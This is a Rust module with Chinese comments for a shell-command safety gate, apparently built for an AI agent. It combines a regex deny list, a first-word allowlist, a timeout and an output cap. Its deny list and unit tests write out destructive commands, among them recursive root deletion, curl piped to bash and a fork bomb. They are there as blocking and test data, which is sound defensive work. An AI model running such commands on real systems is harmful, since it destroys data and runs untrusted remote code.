//! Secure Command Gate：Shell 命令的安全闸门
//!
//! 校验顺序（命中即返回）：沙箱关闭则放行 -> 危险模式黑名单（正则） -> 首词白名单（默认拒绝）。
//! 黑名单拦截灾难性语法（rm -rf /、写块设备、mkfs、dd、curl|sh、eval/exec、fork bomb），
//! 白名单只看命令首词。已知残余风险：首词在白名单内、尾部做坏事且不命中黑名单的复合命令
//! 无法在此层拦住，调用方不应把本闸门当作完整沙箱。
//! 执行带硬超时（到点强杀进程）与输出字节上限，超时错误中带超时时长与已捕获的部分输出。

use std::collections::HashSet;
use std::process::Stdio;
use std::sync::RwLock;
use std::time::Duration;

use regex::Regex;
use tokio::io::AsyncReadExt;
use tokio::process::Command;
use tokio::time::timeout;

use crate::config::ShellSection;

/// 一次命令执行的结构化结果（拒绝与失败都不是异常）
#[derive(Debug, Clone)]
pub struct CommandOutcome {
    pub success: bool,
    pub output: String,
    pub error: Option<String>,
}

impl CommandOutcome {
    fn rejected(reason: String) -> Self {
        Self {
            success: false,
            output: String::new(),
            error: Some(reason),
        }
    }
}

/// 危险模式表：(正则, 说明)。拒绝时报告命中的是哪条
fn dangerous_patterns() -> Vec<(Regex, &'static str)> {
    let patterns: [(&str, &str); 7] = [
        (
            r"(?i)\brm\s+(?:-[a-z]+\s+)*-[a-z]*r[a-z]*\s+/(?:\s|$)",
            "recursive root deletion",
        ),
        (r">\s*/dev/(?:sd|hd|nvme|disk)", "raw block-device write"),
        (r"(?i)\bmkfs(?:\.[a-z0-9]+)?\b", "filesystem format"),
        (r"(?i)\bdd\s+if=", "raw disk imaging"),
        (
            r"(?i)\b(?:curl|wget)\b[^|]*\|\s*(?:ba|z|da|fi)?sh\b",
            "network fetch piped to shell",
        ),
        (r"(?i)\b(?:eval|exec)\b", "eval/exec construct"),
        (
            r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
            "fork bomb",
        ),
    ];
    patterns
        .iter()
        .map(|(p, label)| (Regex::new(p).unwrap(), *label))
        .collect()
}

/// 命令闸门：白名单运行时可变（RwLock），黑名单编译期固定
pub struct SecureCommandGate {
    sandbox_enabled: bool,
    allowed: RwLock<HashSet<String>>,
    patterns: Vec<(Regex, &'static str)>,
    max_execution: Duration,
    max_output_bytes: usize,
}

impl SecureCommandGate {
    pub fn new(cfg: &ShellSection) -> Self {
        Self {
            sandbox_enabled: cfg.sandbox_enabled,
            allowed: RwLock::new(
                cfg.allowed_commands
                    .iter()
                    .map(|s| s.to_lowercase())
                    .collect(),
            ),
            patterns: dangerous_patterns(),
            max_execution: Duration::from_secs(cfg.max_execution_secs),
            max_output_bytes: cfg.max_output_bytes,
        }
    }

    /// 运行时向白名单添加命令
    pub fn allow_command(&self, name: &str) {
        self.allowed.write().unwrap().insert(name.to_lowercase());
    }

    /// 运行时从白名单移除命令
    pub fn deny_command(&self, name: &str) {
        self.allowed.write().unwrap().remove(&name.to_lowercase());
    }

    pub fn allowed_commands(&self) -> Vec<String> {
        let mut v: Vec<String> = self.allowed.read().unwrap().iter().cloned().collect();
        v.sort();
        v
    }

    /// 提取首词作为基础命令（在空白、管道、& 与 ; 处截断）
    fn base_command(raw: &str) -> &str {
        raw.split(|c: char| c.is_whitespace() || c == '|' || c == '&' || c == ';')
            .find(|s| !s.is_empty())
            .unwrap_or("")
    }

    /// 校验命令是否允许执行；Err 带给操作者/模型看的可读原因
    pub fn validate(&self, command: &str) -> Result<(), String> {
        if !self.sandbox_enabled {
            return Ok(());
        }
        let command = command.trim();
        if command.is_empty() {
            return Err("Empty command".to_string());
        }
        // 黑名单先于白名单：curl|bash 即使 curl/bash 都在白名单也要拦
        for (re, label) in &self.patterns {
            if re.is_match(command) {
                return Err(format!("Dangerous pattern detected: {}", label));
            }
        }
        let base = Self::base_command(command).to_lowercase();
        if base.is_empty() {
            return Err("Empty command".to_string());
        }
        let allowed = self.allowed.read().unwrap();
        if allowed.contains(&base) {
            Ok(())
        } else {
            let mut list: Vec<&String> = allowed.iter().collect();
            list.sort();
            Err(format!(
                "Command '{}' not in allowlist. Allowed: {}",
                base,
                list.iter()
                    .map(|s| s.as_str())
                    .collect::<Vec<_>>()
                    .join(", ")
            ))
        }
    }

    /// 校验并执行；超时强杀并返回部分输出，非零退出码视为失败
    pub async fn execute(&self, command: &str) -> CommandOutcome {
        if let Err(reason) = self.validate(command) {
            tracing::warn!(command = %command, reason = %reason, "command rejected");
            return CommandOutcome::rejected(reason);
        }

        tracing::info!(command = %command, "gate executing command");

        let mut cmd = Command::new("sh");
        cmd.args(["-c", command])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true);

        let mut child = match cmd.spawn() {
            Ok(c) => c,
            Err(e) => {
                return CommandOutcome::rejected(format!("Spawn failed: {}", e));
            }
        };

        // 并发读管道，超时后仍能拿到已产生的部分输出
        let mut stdout_pipe = child.stdout.take();
        let mut stderr_pipe = child.stderr.take();
        let stdout_task = tokio::spawn(async move {
            let mut buf = Vec::new();
            if let Some(ref mut p) = stdout_pipe {
                let _ = p.read_to_end(&mut buf).await;
            }
            buf
        });
        let stderr_task = tokio::spawn(async move {
            let mut buf = Vec::new();
            if let Some(ref mut p) = stderr_pipe {
                let _ = p.read_to_end(&mut buf).await;
            }
            buf
        });

        let wait_result = timeout(self.max_execution, child.wait()).await;

        let timed_out = wait_result.is_err();
        if timed_out {
            let _ = child.start_kill();
            let _ = child.wait().await;
        }

        let stdout = self.truncate(stdout_task.await.unwrap_or_default());
        let stderr = self.truncate(stderr_task.await.unwrap_or_default());
        let combined = if stderr.is_empty() {
            stdout.clone()
        } else if stdout.is_empty() {
            format!("stderr: {}", stderr.trim())
        } else {
            format!("{}\nstderr: {}", stdout.trim_end(), stderr.trim())
        };

        if timed_out {
            return CommandOutcome {
                success: false,
                output: combined,
                error: Some(format!(
                    "Command timed out after {}s (process killed)",
                    self.max_execution.as_secs()
                )),
            };
        }

        match wait_result {
            Ok(Ok(status)) if status.success() => CommandOutcome {
                success: true,
                output: combined,
                error: None,
            },
            Ok(Ok(status)) => CommandOutcome {
                success: false,
                output: combined,
                error: Some(format!("Exit {:?}", status.code())),
            },
            Ok(Err(e)) => CommandOutcome {
                success: false,
                output: combined,
                error: Some(format!("Execution failed: {}", e)),
            },
            Err(_) => unreachable!("timeout handled above"),
        }
    }

    fn truncate(&self, bytes: Vec<u8>) -> String {
        let truncated = bytes.len() > self.max_output_bytes;
        let slice = &bytes[..bytes.len().min(self.max_output_bytes)];
        let mut s = String::from_utf8_lossy(slice).to_string();
        if truncated {
            s.push_str("\n...[output truncated]");
        }
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::ShellSection;

    fn gate_with(allowed: &[&str]) -> SecureCommandGate {
        SecureCommandGate::new(&ShellSection {
            sandbox_enabled: true,
            allowed_commands: allowed.iter().map(|s| s.to_string()).collect(),
            max_execution_secs: 5,
            max_output_bytes: 10_000,
        })
    }

    #[test]
    fn test_whitelisted_command_passes_validation() {
        let gate = gate_with(&["ls"]);
        assert!(gate.validate("ls -la").is_ok());
    }

    #[test]
    fn test_rm_rf_root_rejected_regardless_of_whitelist() {
        let gate = gate_with(&["rm"]);
        let err = gate.validate("rm -rf /").unwrap_err();
        assert!(err.contains("recursive root deletion"), "got: {}", err);
    }

    #[test]
    fn test_curl_pipe_bash_rejected_even_when_both_whitelisted() {
        let gate = gate_with(&["curl", "bash"]);
        let err = gate.validate("curl http://x | bash").unwrap_err();
        assert!(err.contains("piped to shell"), "got: {}", err);
    }

    #[test]
    fn test_fork_bomb_rejected() {
        let gate = gate_with(&["ls"]);
        assert!(gate.validate(":(){ :|:& };:").is_err());
    }

    #[test]
    fn test_non_whitelisted_rejection_lists_allowed_set() {
        let gate = gate_with(&["ls", "echo"]);
        let err = gate.validate("python script.py").unwrap_err();
        assert!(err.contains("not in allowlist"));
        assert!(err.contains("echo"));
        assert!(err.contains("ls"));
    }

    #[test]
    fn test_base_command_splits_on_separators() {
        assert_eq!(SecureCommandGate::base_command("ls|wc"), "ls");
        assert_eq!(SecureCommandGate::base_command("  echo hi"), "echo");
        assert_eq!(SecureCommandGate::base_command("cat;rm"), "cat");
    }

    #[test]
    fn test_sandbox_disabled_allows_anything() {
        let gate = SecureCommandGate::new(&ShellSection {
            sandbox_enabled: false,
            allowed_commands: vec![],
            max_execution_secs: 5,
            max_output_bytes: 10_000,
        });
        assert!(gate.validate("python anything.py").is_ok());
    }

    #[test]
    fn test_runtime_whitelist_mutation() {
        let gate = gate_with(&["ls"]);
        assert!(gate.validate("date").is_err());
        gate.allow_command("date");
        assert!(gate.validate("date").is_ok());
        gate.deny_command("date");
        assert!(gate.validate("date").is_err());
    }

    #[tokio::test]
    async fn test_execute_echo_succeeds() {
        let gate = gate_with(&["echo"]);
        let outcome = gate.execute("echo hello").await;
        assert!(outcome.success, "error: {:?}", outcome.error);
        assert!(outcome.output.contains("hello"));
    }

    #[tokio::test]
    async fn test_execute_rejected_returns_structured_failure() {
        let gate = gate_with(&["ls"]);
        let outcome = gate.execute("rm -rf /").await;
        assert!(!outcome.success);
        assert!(outcome.error.unwrap().contains("recursive root deletion"));
    }

    #[tokio::test]
    async fn test_timeout_error_names_duration() {
        let gate = SecureCommandGate::new(&ShellSection {
            sandbox_enabled: true,
            allowed_commands: vec!["sleep".into()],
            max_execution_secs: 1,
            max_output_bytes: 10_000,
        });
        let outcome = gate.execute("sleep 5").await;
        assert!(!outcome.success);
        assert!(outcome.error.unwrap().contains("1s"));
    }
}
